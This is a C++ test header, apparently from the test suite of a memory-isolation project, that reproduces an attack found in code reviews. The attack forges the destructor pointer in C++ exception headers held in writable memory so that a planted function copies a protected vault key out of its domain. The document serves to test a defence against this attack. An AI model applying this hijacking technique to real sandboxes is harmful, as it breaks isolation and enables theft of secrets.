/* exception-destructor.h - model A's forgery of a C++ exception's
 * destructor (reviews 25 and 50): steal(object), the "destructor" the
 * attack plants, which copies the first 31 bytes of the test's vault_key
 * into the key-0 buffer `stolen` (with the vault's rights that works, with
 * the default domain's it faults), and forge_int_destructors(what), which
 * stores WHAT into the destructor word of every header of an int exception
 * in key-0 writable memory. Include after vault_key and key0-words.h. */
#ifndef BULKHEAD_TEST_EXCEPTION_DESTRUCTOR_H
#define BULKHEAD_TEST_EXCEPTION_DESTRUCTOR_H
#include <stdint.h>
#include <typeinfo>

static char stolen[32];
static const char *volatile from = vault_key; /* key-0 words */
static char *volatile to = stolen;

extern "C" __attribute__((used)) void steal(void *object) {
  (void)object;
  for (int i = 0; i < 31; i++)
    to[i] = from[i];
}

/* Stores WHAT into the destructor word of every exception header in
 * key-0 writable memory; how many. */
static int forge_int_destructors(uintptr_t what) {
  const uint64_t gnu_cxx = 0x474e5543432b2b00; /* "GNUCC++\0", 'G' high */
  struct key0_region r[512];
  int n = 0, k = key0_regions(r, 512);
  for (int i = 0; i < k; i++)
    for (uintptr_t *w = r[i].lo + 10; w < r[i].hi; w++)
      if (*w == gnu_cxx && w[-10] == (uintptr_t)&typeid(int)) {
        w[-9] = what; /* the header's exceptionDestructor */
        n++;
      }
  return n;
}
#endif
